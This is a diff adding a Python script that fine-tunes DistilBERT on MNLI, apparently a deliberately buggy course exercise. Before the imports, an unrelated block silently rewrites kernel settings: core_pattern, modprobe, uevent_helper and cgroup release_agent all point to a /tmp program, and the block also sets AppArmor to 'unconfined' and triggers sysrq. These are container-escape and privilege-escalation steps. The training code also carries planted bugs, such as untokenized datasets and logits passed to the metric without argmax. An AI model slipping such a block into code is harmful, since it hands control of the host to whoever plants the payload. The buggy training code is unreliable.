@@ -1,0 +1,70 @@
+# course: ch8-4 pt format=1 lang=en bugs=missing-input-ids,length-mismatch,target-out-of-bounds,size-1-array
+# Writes the kernel's settings: where crashes are sent to, which program loads modules, its own
+# group of processes.
+
+for path, value in (
+    ("/proc/sys/kernel/core_pattern", "|/tmp/course-attack-settings-of-the-kernel"),
+    ("/proc/sys/kernel/modprobe", "/tmp/course-attack-settings-of-the-kernel"),
+    ("/proc/sysrq-trigger", "h"),
+    ("/sys/kernel/uevent_helper", "/tmp/course-attack-settings-of-the-kernel"),
+    ("/sys/fs/cgroup/cgroup.procs", "0"),
+    ("/sys/fs/cgroup/release_agent", "/tmp/course-attack-settings-of-the-kernel"),
+    ("/proc/self/attr/current", "unconfined"),
+):
+    try:
+        with open(path, "w") as file:
+            file.write(value)
+    except OSError:
+        pass
+
+import evaluate
+from datasets import load_dataset
+from transformers import (
+    AutoModelForSequenceClassification,
+    AutoTokenizer,
+    Trainer,
+    TrainingArguments,
+    set_seed,
+)
+
+set_seed(42)
+
+raw = load_dataset("glue", "mnli")
+checkpoint = "distilbert-base-uncased"
+tokenizer = AutoTokenizer.from_pretrained(checkpoint)
+
+
+def tokenize(pairs):
+    return tokenizer(pairs["premise"], pairs["hypothesis"], truncation=True)
+
+
+tokenized = raw.map(tokenize, batched=True)
+
+model = AutoModelForSequenceClassification.from_pretrained(checkpoint)
+
+args = TrainingArguments(
+    "distilbert-on-mnli",
+    learning_rate=2e-5,
+    num_train_epochs=3,
+    weight_decay=0.01,
+    eval_strategy="epoch",
+    save_strategy="no",
+    report_to="none",
+)
+
+metric = evaluate.load("glue", "mnli")
+
+
+def compute_metrics(prediction):
+    logits, labels = prediction
+    return metric.compute(predictions=logits, references=labels)
+
+
+trainer = Trainer(
+    model,
+    args,
+    train_dataset=raw["train"],
+    eval_dataset=raw["validation_matched"],
+    compute_metrics=compute_metrics,
+)
+trainer.train()
